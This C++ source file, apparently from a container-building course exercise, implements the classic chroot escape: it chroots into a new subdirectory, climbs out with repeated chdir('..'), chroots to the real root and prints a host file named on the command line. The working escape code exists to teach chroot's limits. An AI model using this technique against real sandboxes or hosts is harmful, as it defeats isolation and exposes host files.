// escape: the classic chroot escape, run inside a container to show what chroot does not do.
//
// Usage (inside the container): /escape HOST-PATH
// Breaks out of the chroot and prints the file HOST-PATH of the host's real root.
// Exits 0 when it got out, 1 when it is still inside.
#include "error.hpp"

#include <sys/stat.h>
#include <unistd.h>

#include <cerrno>
#include <cstring>
#include <fstream>
#include <iostream>
#include <sstream>

namespace {

//! [escape]
/// Moves this process's root back to the machine's real root, if chroot is all that
/// holds it. Needs CAP_SYS_CHROOT, which root inside a chapter-01 container has.
void break_out_of_chroot()
{
    // EXERCISE 1.4 BEGIN: the chroot escape
    //   hint: chroot into a new subdirectory without chdir'ing into it; your current directory is now outside your root, so chdir("..") climbs freely; then chroot(".").
    ::mkdir("escape-hatch", 0700);
    dockling::check(::chroot("escape-hatch"), "chroot", "escape-hatch");
    // The current directory was not moved into the new root: it is now *above* it,
    // and ".." from there is no longer stopped by the root we are in.
    for (int i = 0; i < 256; ++i) {
        dockling::check(::chdir(".."), "chdir", "..");
    }
    dockling::check(::chroot("."), "chroot", ".");
    // EXERCISE 1.4 STUB
    //: throw dockling::ExerciseNotDone("1.4", "chroot into a new subdirectory, climb with chdir(\"..\") and chroot(\".\") where you end up");
    // EXERCISE 1.4 END
}
//! [escape]

}  // namespace

int main(int argc, char** argv)
{
    if (argc != 2) {
        std::cerr << "usage: escape HOST-PATH\n";
        return 2;
    }
    try {
        break_out_of_chroot();
    } catch (const std::exception& error) {
        std::cerr << "escape: " << error.what() << '\n';
        return 1;
    }
    std::ifstream secret(argv[1]);
    if (!secret) {
        std::cerr << "escape: still inside: cannot open " << argv[1] << ": " << std::strerror(errno) << '\n';
        return 1;
    }
    std::cout << "escaped, " << argv[1] << " says: " << secret.rdbuf();
    return 0;
}
